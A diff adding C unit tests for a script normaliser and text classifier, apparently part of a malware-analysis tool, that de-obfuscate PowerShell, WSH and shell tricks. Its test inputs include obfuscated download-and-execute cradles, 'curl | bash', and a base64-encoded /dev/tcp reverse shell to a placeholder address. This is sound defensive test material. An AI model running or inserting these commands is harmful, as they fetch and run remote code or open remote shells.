@@ -1,0 +1,102 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "analysis/normalise.h"
+
+/* The normalised text of in, which must have needed at least one change. */
+static char *norm(const char *in)
+{
+        char *out = NULL;
+        size_t len;
+        int k = normalise_script((const uint8_t *)in, strlen(in), &out, &len);
+
+        assert_true(k > 0);
+        assert_int_equal(strlen(out), len);
+        return out;
+}
+
+static void expect_norm(const char *in, const char *want)
+{
+        char *got = norm(in);
+        assert_string_equal(got, want);
+        free(got);
+}
+
+static void test_powershell(void **state)
+{
+        (void)state;
+        expect_norm("I`E`X ('Down'+'load'+\"String\")", "iex 'downloadstring'");
+        expect_norm("(\"{1}{0}\" -f 'bClient','Net.We')", "\"net.webclient\"");
+        expect_norm("&( $VerbosePreference.ToString()[1,3]+'x'-join'') $a", "iex $a");
+        expect_norm("$ShellId[1]+$ShellId[13]+'x'", "'iex'");
+        expect_norm("(('i','e','x') -join '')", "'iex'");
+        expect_norm("('iXXeXXx' -replace 'XX','')", "'iex'");
+        expect_norm("$w.('Down'+'loadString').Invoke($u)", "$w.downloadstring($u)");
+        expect_norm("[char]105+[char]0x65+[char](120)", "'iex'");
+}
+
+static void test_wsh_and_shell(void **state)
+{
+        (void)state;
+        expect_norm("x = \"MSXML2.\" & Chr(88) & \"MLHTTP\"", "x = \"msxml2.xmlhttp\"");
+        expect_norm("new ActiveXObject(String.fromCharCode(87,83,99,114,105,112,116))",
+                    "new activexobject(\"wscript\")");
+        expect_norm("'\\x57\\x53' + 'cript'", "'wscript'");
+        expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
+        expect_norm("$'\\x62\\x61sh' -i", "bash -i");
+        /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
+        expect_norm("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvOSAwPiYx | base64 -d | sh",
+                    "echo bash -i >& /dev/tcp/192.0.2.1/9 0>&1 | base64 -d | sh");
+}
+
+static void test_unchanged(void **state)
+{
+        char *out = NULL;
+        size_t len;
+        const char *plain = "Hello, World\nprint(len(x))\n";
+
+        (void)state;
+        assert_int_equal(normalise_script((const uint8_t *)plain, strlen(plain), &out, &len), 0);
+        assert_string_equal(out, "hello, world\nprint(len(x))\n");
+        free(out);
+}
+
+static void test_kinds(void **state)
+{
+        const char *md = "# Building\n\nThis document explains how to build the project on a "
+                         "machine of your own.\n\n## Windows\n\nInstall the tools with the "
+                         "script below, which you should read first.\n\n```powershell\niex "
+                         "((New-Object Net.WebClient).DownloadString('https://x'))\n```\n\nThen "
+                         "run the build from a new shell so that the path is right.\n";
+        const char *ps = "$u = 'https://x'\n$s = (New-Object Net.WebClient).DownloadString($u)\n"
+                         "iex $s\n";
+
+        (void)state;
+        assert_int_equal(text_kind_of((const uint8_t *)md, strlen(md), "BUILDING.md"),
+                         TEXT_KIND_DOCUMENT);
+        /* the same prose under a script's name is a script */
+        assert_int_equal(text_kind_of((const uint8_t *)md, strlen(md), "build.ps1"),
+                         TEXT_KIND_SCRIPT);
+        assert_int_equal(text_kind_of((const uint8_t *)ps, strlen(ps), "notes.txt"),
+                         TEXT_KIND_SCRIPT);
+        assert_int_equal(text_kind_of((const uint8_t *)ps, strlen(ps), "notes.md"),
+                         TEXT_KIND_SCRIPT);
+        assert_string_equal(text_kind_name(TEXT_KIND_DOCUMENT), "document");
+}
+
+int main(void)
+{
+        const struct CMUnitTest tests[] = {
+                cmocka_unit_test(test_powershell),
+                cmocka_unit_test(test_wsh_and_shell),
+                cmocka_unit_test(test_unchanged),
+                cmocka_unit_test(test_kinds),
+        };
+        return cmocka_run_group_tests(tests, NULL, NULL);
+}
